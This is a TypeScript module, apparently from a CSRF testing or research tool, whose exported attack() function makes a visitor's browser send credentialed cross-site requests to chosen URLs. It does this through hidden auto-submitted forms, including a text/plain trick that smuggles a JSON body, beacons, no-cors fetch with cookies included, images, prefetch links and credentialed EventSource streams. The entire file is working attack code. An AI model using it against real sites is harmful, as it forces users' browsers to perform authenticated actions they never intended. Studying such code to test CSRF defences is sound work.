/** What an attacker's page does to have a browser send something: it runs there. */

/** A kind of request that a browser sends for any page. */
export type Way =
  /** By a form, in a window of its own, as if the person had sent it. */
  | "form"
  | "form of text"
  | "form of files"
  /** By what is sent when a page is left. */
  | "beacon"
  | "beacon of text"
  /** By `fetch`, which asks the server first where it is JSON. */
  | "fetch"
  | "fetch of text"
  | "fetch of JSON"
  | "fetch to read"
  /** By what only asks for something. */
  | "link"
  | "image"
  | "prefetch"
  | "stream"
  | "fetch without a body";

export interface Attempt {
  readonly way: Way;
  readonly url: string;
  /** As the way has it: a form's fields, or JSON. */
  readonly body: string;
}

/** Makes all of them at once. Returns those whose answer was given to the page. */
export async function attack(attempts: readonly Attempt[]): Promise<string[]> {
  const made = await Promise.all(attempts.map(async (attempt) => ({ ...attempt, isAnswered: await make(attempt) })));
  return made.filter(({ isAnswered }) => isAnswered).map(({ way, url }) => `${way} ${url}`);

  function make({ way, url, body }: Attempt): Promise<boolean> | boolean {
    switch (way) {
      case "form":
        return submit(url, "application/x-www-form-urlencoded", [...new URLSearchParams(body)]);
      // Their format has more than the body in it: that stands between two fields that nobody asks for.
      case "form of text":
        return submit(url, "text/plain", [body.startsWith("{") ? textFields(body) : [`${body}&more`, ""]]);
      case "form of files":
        return submit(url, "multipart/form-data", [[`&${body}&more`, ""]]);
      case "beacon":
        return send(url, new URLSearchParams(body));
      case "beacon of text":
        return send(url, body);
      case "fetch":
        return fetched(url, { mode: "no-cors", method: "POST", body: new URLSearchParams(body) });
      case "fetch of text":
        return fetched(url, { mode: "no-cors", method: "POST", body });
      case "fetch of JSON":
        return fetched(url, { method: "POST", body, headers: { "content-type": "application/json" } });
      case "fetch to read":
        return fetched(url, { method: "POST", body: body.startsWith("{") ? body : new URLSearchParams(body) });
      case "link":
        window.open(url);
        return false;
      case "image":
        return loaded(Object.assign(new Image(), { src: url }));
      case "prefetch":
        document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: url }));
        return false;
      case "stream":
        return streamed(new EventSource(url, { withCredentials: true }));
      case "fetch without a body":
        return fetched(url, { mode: "no-cors" });
    }
  }

  /** JSON with its last brace left to the value, as a form puts a `=` between. */
  function textFields(json: string): [string, string] {
    return [`${json.slice(0, -1)},"more":"`, '"}'];
  }

  function submit(action: string, enctype: string, fields: readonly (readonly [string, string])[]): boolean {
    const form = Object.assign(document.createElement("form"), { action, enctype, method: "post", target: "_blank" });
    for (const [name, value] of fields)
      form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
    document.body.append(form);
    form.submit();
    return false;
  }

  function send(url: string, body: string | URLSearchParams): boolean {
    navigator.sendBeacon(url, body);
    return false;
  }

  function fetched(url: string, init: RequestInit): Promise<boolean> {
    return fetch(url, { credentials: "include", ...init }).then(
      () => true,
      () => false,
    );
  }

  function loaded(image: HTMLImageElement): Promise<boolean> {
    return image.decode().then(
      () => true,
      () => false,
    );
  }

  function streamed(stream: EventSource): Promise<boolean> {
    return new Promise((resolve) => {
      const end = (isAnswered: boolean) => () => {
        stream.close();
        resolve(isAnswered);
      };
      stream.onopen = end(true);
      stream.onerror = end(false);
    });
  }
}
